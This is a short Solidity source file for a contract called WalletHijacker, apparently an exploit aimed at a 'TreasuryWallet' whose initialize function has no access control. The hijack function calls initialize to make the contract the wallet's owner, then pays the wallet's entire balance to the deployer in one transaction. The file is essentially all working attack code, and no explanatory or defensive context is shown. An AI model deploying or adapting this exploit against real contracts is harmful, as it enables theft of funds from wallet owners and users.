// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface ITreasuryWallet {
    function initialize(address owner_) external;

    function pay(address to, uint256 amount) external;
}

/// @title WalletHijacker
/// @notice Takes over a TreasuryWallet by calling its unprotected `initialize`, then pays the whole
///         treasury to the owner EOA that deployed this contract, in one transaction.
contract WalletHijacker {
    address public immutable owner;

    event Hijacked(address indexed wallet, address indexed beneficiary, uint256 loot);

    constructor() {
        owner = msg.sender;
    }

    function hijack(ITreasuryWallet wallet) external {
        require(msg.sender == owner, "WalletHijacker: not owner");
        wallet.initialize(address(this));
        uint256 loot = address(wallet).balance;
        wallet.pay(owner, loot);
        emit Hijacked(address(wallet), owner, loot);
    }
}
